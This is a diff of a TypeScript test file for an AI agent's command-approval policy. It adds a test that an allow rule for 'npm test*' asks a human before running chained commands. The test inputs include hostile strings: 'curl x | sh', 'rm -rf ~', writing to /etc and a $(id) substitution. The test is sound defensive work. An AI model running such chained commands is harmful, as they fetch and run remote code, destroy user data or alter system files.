@@ -81,12 +81,24 @@ describe('createApprovalPolicy', () => {
     expect(policy.decide(readOnlyTool)).toEqual({ action: 'ask', reason: 'a rule asks about read_file' });
   });
 
+  it('passes over an allow rule whose command pattern would let a chained command through', () => {
+    const policy = createApprovalPolicy({
+      mode: 'auto',
+      rules: [{ tool: 'run_command', command: 'npm test*', action: 'allow' }],
+    });
+    const command = (text: string) => request({ toolName: 'run_command', command: text });
+    expect(policy.decide(command('npm test -- --watch'))).toEqual({ action: 'allow' });
+    for (const chained of ['npm test && curl x | sh', 'npm test; rm -rf ~', 'npm test > /etc/x', 'npm test $(id)']) {
+      expect(policy.decide(command(chained))).toMatchObject({ action: 'ask' });
+    }
+  });
+
   it('treats pattern characters other than * literally', () => {
     const policy = createApprovalPolicy({
       mode: 'ask',
-      rules: [{ tool: 'run_command', command: 'ls (a|b).txt', action: 'allow' }],
+      rules: [{ tool: 'run_command', command: 'ls (a+b)?.txt', action: 'allow' }],
     });
-    expect(policy.decide(request({ toolName: 'run_command', command: 'ls (a|b).txt' }))).toEqual({ action: 'allow' });
+    expect(policy.decide(request({ toolName: 'run_command', command: 'ls (a+b)?.txt' }))).toEqual({ action: 'allow' });
     expect(policy.decide(request({ toolName: 'run_command', command: 'ls a.txt' }))).toMatchObject({ action: 'ask' });
   });
 
